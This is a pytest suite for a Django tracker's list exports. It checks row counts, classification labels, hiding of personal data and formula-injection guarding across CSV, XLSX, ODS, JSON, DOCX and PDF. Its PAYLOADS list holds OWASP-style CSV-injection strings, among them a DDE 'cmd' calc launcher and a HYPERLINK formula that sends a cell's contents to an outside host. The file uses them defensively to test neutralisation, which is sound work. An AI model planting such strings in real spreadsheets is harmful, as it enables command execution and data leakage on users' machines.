"""Lists as files: the same rows by every door and in every form, and nothing read as a formula."""

import csv
import io
import json
import subprocess
import tracemalloc
import zipfile

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from docx import Document
from lxml import etree
from openpyxl.utils.escape import unescape

from tests import REFERENCE_DAY, make
from tests.dashboard.pages import LISTS
from tests.exports.reading import needs, texts
from tests.thorough import some
from tracker.exports import forms
from tracker.exports.about import About, sentence
from tracker.exports.cells import guarded, unguarded
from tracker.exports.forms import FORMS
from tracker.exports.sheets import DAY, MOMENT, SHEETS, TEXT, WHOLE, YES_NO
from tracker.listings import NOUNS, listing
from tracker.models import Commitment, Designation, Report, SavedView
from tracker.models.designations import PERSONAL
from tracker.vocabulary import Role

#: What spreadsheets have been made to run (OWASP, "CSV injection"), and what looks like it.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example?"&A1;"here")',
    "'=1+1",
]
#: Texts that a file must hold as they are.
HARD = [
    "",
    *PAYLOADS,
    " =1+1",
    "  two  spaces  ",
    'a "b", c;d',
    "الجمهورية 共和国 Ж",
    "a\tb\nc\n\nd",
    "_x0041_",
    "'",
]
API = ["/api/v1/commitments/", "/api/v1/themes/", "/api/v1/reports/", "/api/v1/changes/?noun=body"]
ADDRESS = "https://tracker.example.org/x/?on=2026-11-01"
ABOUT = About(REFERENCE_DAY, "internal", ADDRESS, "X", "All rows.", 1)


@pytest.fixture(autouse=True)
def the_day(time_machine):
    time_machine.move_to(REFERENCE_DAY)


def signed_in(client, role=Role.REVIEWER):
    client.force_login(make.make_user(role))
    return client


def file(client, path, form):
    mark = "&" if "?" in path else "?"
    response = client.get(f"{path}{mark}format={form}")
    assert response.status_code == 200, path
    return response, response.getvalue()


def csv_rows(data: bytes) -> list[dict]:
    """The rows as our rule about apostrophes reads them."""
    rows = csv.DictReader(io.StringIO(data.decode(), newline=""))
    return [{name: unguarded(text) for name, text in row.items()} for row in rows]


def xlsx_cells(data: bytes) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Rows", "About"]
    return [list(row) for row in book["Rows"].iter_rows(min_row=2)]


OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"


def ods_cells(data: bytes) -> list[list]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert book.namelist()[0] == "mimetype"
        content = etree.fromstring(book.read("content.xml"))
    rows, _about = content.iter(f"{TABLE}table")
    return [list(row) for row in rows.findall(f"{TABLE}table-row")[1:]]


def number_of_rows(form: str, data: bytes) -> int | None:
    """How many rows a file holds."""
    read = {
        "csv": lambda: len(csv_rows(data)),
        "xlsx": lambda: len(xlsx_cells(data)),
        "ods": lambda: len(ods_cells(data)),
        "json": lambda: len(json.loads(data)["rows"]),
        "jsonl": lambda: len(data.decode().splitlines()),
        "docx": lambda: sum(len(each.rows) - 1 for each in Document(io.BytesIO(data)).tables),
        "about": lambda: json.loads(data)["rows"],
    }
    return read[form]() if form in read else None


@pytest.mark.django_db
@pytest.mark.parametrize("path", some("/designations/", API[1], *LISTS, *API, quick=2))
def test_every_form_of_every_list_holds_the_rows_that_the_list_counts(client, path):
    signed_in(client)
    if path.startswith("/api/"):
        total = client.get(path).json()["count"]
        wanted = [form for form in FORMS if form != "json"]
    else:
        path = path if path != "/changes/" else "/changes/?noun=body"
        total, wanted = client.get(path).context["results"].total, list(FORMS)
    assert total
    for form in wanted:
        response, data = file(client, path, form)
        assert response["X-Row-Count"] == str(total), form
        assert response["Content-Type"] == FORMS[form].media_type
        assert f".{response['X-Classification']}." in response["Content-Disposition"]
        assert number_of_rows(form, data) in (total, None), form


@pytest.mark.django_db
def test_both_doors_give_the_same_bytes(client):
    signed_in(client)
    query = {"theme": "biometrics", "on": "2025-01-31", "format": "csv"}
    page = client.get("/commitments/", query).getvalue()
    assert page == client.get("/api/v1/commitments/", query).getvalue()
    assert page == client.get("/commitments/", query).getvalue()
    del query["format"]
    accepted = client.get("/api/v1/commitments/", query, headers={"accept": "text/csv"})
    assert page == accepted.getvalue()


@pytest.mark.django_db
@pytest.mark.parametrize("form", ["xlsx", "ods", "pdf"])
def test_the_same_address_gives_the_same_file(client, form):
    signed_in(client)
    first = file(client, "/provisions/", form)[1]
    assert file(client, "/provisions/", form)[1] == first


@pytest.mark.django_db
def test_a_file_says_what_it_holds(client):
    signed_in(client)
    path = "/commitments/?body=XAA&timing=no_date&timing=overdue"
    said = (
        "Rows with Body: XAA; Timing: No date set or Past the indicated date.",
        "1 November 2026",
        "RESTRICTED (the highest inside)",
        "http://testserver/commitments/?body=XAA&timing=no_date&timing=overdue&on=2026-11-01",
        "no legal finding",
    )
    response, data = file(client, path, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    lines = book["About"].iter_rows(max_col=2, values_only=True)
    told = {"xlsx": "\n".join(" ".join(line) for line in lines)}
    document = Document(io.BytesIO(file(client, path, "docx")[1]))
    told["docx"] = "\n".join(each.text for each in document.paragraphs)
    told["pdf"] = " ".join(texts(file(client, path, "pdf")[1]))
    with zipfile.ZipFile(io.BytesIO(file(client, path, "ods")[1])) as ods:
        told["ods"] = ods.read("content.xml").decode().replace("&amp;", "&")
    for form, text in told.items():
        for each in said:
            assert each in text or (form == "pdf" and "http" in each), (form, each)
        assert f"{response['X-Row-Count']}" in text
    for form in ("json", "about"):
        facts = json.loads(file(client, path, form)[1])
        facts = facts.get("about", facts)
        assert facts["filter"] == said[0]
        assert facts["as_of"] == "2026-11-01"
        assert facts["classification"] == "restricted"
        assert facts["address"] == said[3]
        assert said[4] in facts["note"]
    beside = response["Link"].partition(">")[0].strip("<").removeprefix("http://testserver")
    assert json.loads(client.get(beside).getvalue())["rows"] == int(response["X-Row-Count"])


@pytest.mark.django_db
def test_each_page_of_a_printed_list_says_as_of_classification_and_source(client):
    pages = texts(file(signed_in(client), "/commitments/?theme=information-sharing", "pdf")[1])
    for number, page in enumerate(pages, 1):
        assert "RESTRICTED" in page
        assert "As of 1 November 2026" in page
        assert "Source: Commitment tracker, http://testserver/commitments/" in page
        assert f"Page {number} of {len(pages)}" in page


@pytest.mark.django_db
def test_nobody_gets_more_in_a_file_than_on_a_page(client):
    report = make.make_report(text="Secret words.", classification="restricted")
    for role, shown in ((Role.VIEWER, 0), (Role.REVIEWER, 1)):
        signed_in(client, role)
        path = f"/reports/?body={report.commitment.body.code}"
        for form in FORMS:
            response, data = file(client, path, form)
            assert response["X-Row-Count"] == str(shown)
            if form in ("csv", "json", "jsonl"):
                assert (b"Secret words." in data) == bool(shown)
            level = "restricted" if shown else "public"
            assert response["X-Classification"] == level


@pytest.mark.django_db
def test_a_commitment_is_as_restricted_as_what_is_shown_of_it(client):
    commitment = make.make_commitment()
    path = f"/commitments/?body={commitment.body.code}"
    signed_in(client)
    for level in ("public", "internal", "restricted"):
        make.make_report(commitment, classification=level)
        assert file(client, path, "csv")[0]["X-Classification"] == level
    assert file(signed_in(client, Role.VIEWER), path, "csv")[0]["X-Classification"] == "internal"


@pytest.mark.django_db
def test_the_persons_behind_offices_are_in_no_file(client):
    told = ("Ada Zzyzx", "+99 123 456", "ada@zzyzx.test")
    body = make.make_body()
    make.make_designation(body, office="Office", **dict(zip(PERSONAL, told, strict=True)))
    signed_in(client)
    for form in FORMS:
        _response, data = file(client, f"/designations/?body={body.code}", form)
        if data[:2] == b"PK":
            with zipfile.ZipFile(io.BytesIO(data)) as held:
                data = b"".join(held.read(name) for name in held.namelist())
        elif form == "pdf":
            data = " ".join(texts(data)).encode()
        for each in told:
            assert each.encode() not in data, form
    names = {column.name for column in SHEETS[Designation].columns}
    assert not names & set(PERSONAL)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("format=xml", "format"),
        ("format=csv&page=2", "page"),
        ("format=csv&page_size=5", "page_size"),
        ("format=csv&timing=late", "timing"),
        ("format=csv&shape=round", "shape"),
    ],
)
def test_a_wrong_request_is_refused_in_words(client, query, name):
    signed_in(client)
    page = client.get(f"/commitments/?{query}")
    assert page.status_code == 400
    assert [problem.name for problem in page.context["results"].problems] == [name]
    answer = client.get(f"/api/v1/commitments/?{query}")
    assert answer.status_code == 400
    assert answer["Content-Type"] == "application/problem+json"
    assert list(answer.json()["errors"]) == [name]


@pytest.mark.django_db
def test_more_rows_than_a_form_takes_are_refused(client, monkeypatch):
    small = forms.Form("pdf", "PDF", "application/pdf", FORMS["pdf"].write, most=10)
    monkeypatch.setitem(FORMS, "pdf", small)
    signed_in(client)
    page = client.get("/bodies/?format=pdf")
    assert page.status_code == 400
    assert "PDF takes 10 rows at most" in page.content.decode()
    answer = client.get("/api/v1/bodies/?format=pdf")
    assert (answer.status_code, list(answer.json()["errors"])) == (400, ["format"])


@pytest.mark.django_db
def test_nobody_who_is_not_signed_in_gets_a_file(client):
    assert client.get("/commitments/?format=csv").status_code == 302
    assert client.get("/api/v1/commitments/?format=csv").status_code in (401, 403)


@pytest.mark.django_db
@pytest.mark.parametrize("path", [path for path in LISTS if path != "/changes/"])
def test_a_file_costs_the_same_however_many_rows_it_has(client, path):
    signed_in(client)
    with CaptureQueriesContext(connection) as captured:
        file(client, path, "jsonl")
    assert len(captured) <= 16


@pytest.mark.django_db
def test_every_list_offers_every_form(client):
    page = signed_in(client).get("/commitments/?body=XAA&page=1&page_size=5").content.decode()
    for form in FORMS:
        assert f'href="/commitments/?body=XAA&amp;format={form}"' in page


def row_of(sheet, text):
    """A row of ``sheet`` with ``text`` in every column of text."""
    values = {TEXT: text, WHOLE: 7, YES_NO: True, DAY: REFERENCE_DAY, MOMENT: None}
    return [values[column.kind] for column in sheet.columns]


class Filled:
    """A sheet whose rows are given, so that any text can stand in any column."""

    def __init__(self, sheet):
        self.columns, self.names = sheet.columns, sheet.names

    def values(self, rows):
        yield from rows


def written(form, sheet, rows) -> bytes:
    return b"".join(FORMS[form].write(Filled(sheet), rows, ABOUT))


@pytest.mark.parametrize("noun", SHEETS, ids=lambda noun: noun.__name__)
def test_no_text_becomes_a_formula_and_each_reads_back_exactly(noun):
    sheet = SHEETS[noun]
    rows = [row_of(sheet, text) for text in HARD]
    places = [place for place, column in enumerate(sheet.columns) if column.kind == TEXT]
    assert places
    plain = csv.reader(io.StringIO(written("csv", sheet, rows).decode(), newline=""))
    cells = {
        "csv": list(plain)[1:],
        "xlsx": xlsx_cells(written("xlsx", sheet, rows)),
        "ods": ods_cells(written("ods", sheet, rows)),
        "jsonl": [list(json.loads(line).values())
                  for line in written("jsonl", sheet, rows).decode().split("\n")[:-1]],
    }  # fmt: skip
    for number, text in enumerate(HARD):
        for place in places:
            found = {form: lines[number][place] for form, lines in cells.items()}
            assert found["csv"].lstrip()[:1] not in set("=+-@\uff1d") or not found["csv"]
            assert unguarded(found["csv"]) == text
            assert found["xlsx"].data_type in ("s", "inlineStr", "n")
            assert unescape(found["xlsx"].value or "") == text
            assert found["xlsx"].data_type == "s" or text == ""
            assert found["ods"].get(f"{OFFICE}value-type") in ("string", None)
            assert found["ods"].get(f"{TABLE}formula") is None
            assert found["ods"].get(f"{OFFICE}string-value", "") == text
            assert found["jsonl"] == text


def test_an_apostrophe_is_added_once_and_taken_away_once():
    for text in [*HARD, "plain", "it's"]:
        assert unguarded(guarded(text)) == text
    assert guarded("plain") == "plain"


def test_the_filter_is_told_as_a_sentence():
    assert sentence([]) == "All rows, not filtered."
    chosen = [("body", "FRA", "Body"), ("body", "BEL", "Body"), ("q", "x", "Words")]
    active = [(name, value, label, value) for name, value, label in chosen]
    assert sentence(active) == "Rows with Body: FRA or BEL; Words: x."


@pytest.mark.parametrize("form", ["csv", "jsonl", "json", "xlsx", "ods"])
def test_a_list_is_written_in_constant_memory(form):
    sheet = SHEETS[Report]

    def peak(number):
        rows = (row_of(sheet, f"Text {each} of some length") for each in range(number))
        tracemalloc.start()
        for _piece in FORMS[form].write(Filled(sheet), rows, ABOUT):
            pass
        _now, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    peak(100)
    assert peak(3000) < peak(600) + 300_000


@needs("pandas", "duckdb")
@pytest.mark.django_db
def test_analysts_read_csv_and_json_lines_as_they_are(client, tmp_path):
    import duckdb
    import pandas

    body = make.make_body()
    for number, text in enumerate(HARD):
        make.make_report(make.make_commitment(body=body), key=f"r-{number:03}", text=text)
    signed_in(client)
    for path in ("/commitments/", f"/reports/?body={body.code}", "/provisions/"):
        response, data = file(client, path, "csv")
        lines = file(client, path, "jsonl")[1]
        (tmp_path / "rows.csv").write_bytes(data)
        (tmp_path / "rows.jsonl").write_bytes(lines)
        total = int(response["X-Row-Count"])
        frame = pandas.read_csv(tmp_path / "rows.csv")
        assert len(frame) == total
        assert len(pandas.read_json(tmp_path / "rows.jsonl", lines=True)) == total
        for found in (
            duckdb.read_csv(str(tmp_path / "rows.csv")),
            duckdb.read_json(str(tmp_path / "rows.jsonl"), format="newline_delimited"),
        ):
            assert found.shape[0] == total, path
    data = file(client, f"/reports/?body={body.code}", "csv")[1]
    frame = pandas.read_csv(io.BytesIO(data), keep_default_na=False)
    held = dict(zip(frame["key"], frame["text"], strict=True))
    for number, text in enumerate(HARD):
        assert unguarded(held[f"r-{number:03}"]).replace("\r", "\n") == text.replace("\r", "\n")


@needs(program="soffice")
@pytest.mark.django_db
def test_libreoffice_opens_workbooks_and_documents(client, tmp_path):
    body = make.make_body()
    for number, text in enumerate(PAYLOADS):
        make.make_report(make.make_commitment(body=body), key=f"r-{number:03}", text=text)
    signed_in(client)
    for form in ("xlsx", "ods", "docx"):
        response, data = file(client, f"/reports/?body={body.code}", form)
        (tmp_path / f"rows.{form}").write_bytes(data)
        table = "csv:Text - txt - csv (StarCalc):44,34,76,1"
        ending = "txt:Text" if form == "docx" else table
        subprocess.run(
            ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/office",
             "--convert-to", ending, "--outdir", tmp_path / form, tmp_path / f"rows.{form}"],
            check=True, capture_output=True, timeout=120,
        )  # fmt: skip
        [made] = (tmp_path / form).iterdir()
        text = made.read_text(encoding="utf-8-sig", errors="replace")
        if form == "docx":
            assert "no legal finding" in text
        else:
            rows = list(csv.DictReader(io.StringIO(text)))
            assert len(rows) == int(response["X-Row-Count"]) == len(PAYLOADS)
            # A formula would have been worked out: "=1+1" would read "2".
            assert {row["text"].strip() for row in rows} == {each.strip() for each in PAYLOADS}


def test_every_noun_of_the_lists_has_its_columns():
    # Saved views are their owners', and no part of the register.
    assert set(NOUNS.values()) - {SavedView} == set(SHEETS)
    assert forms.forms_of(SavedView) == {}
    for sheet in SHEETS.values():
        assert len(set(sheet.names)) == len(sheet.names)
        assert any(column.share for column in sheet.columns)
    assert SHEETS[Commitment].names[0] == "key"


@pytest.mark.django_db
@pytest.mark.parametrize("noun", [noun for noun, sheet in SHEETS.items() if sheet.flat])
def test_what_is_read_flat_is_what_the_rows_say(noun):
    sheet = SHEETS[noun]
    filterset = next(each for each, its in NOUNS.items() if its is noun)
    found = listing(filterset, {}, viewer=make.make_user(Role.ADMINISTRATOR), today=REFERENCE_DAY)
    assert found.is_valid() and found.qs.count() > 5
    with CaptureQueriesContext(connection) as asked:
        flat = list(sheet.values(sheet.read(found.qs, 500)))
    assert len(asked) == 1
    assert flat == list(sheet.values(found.qs))
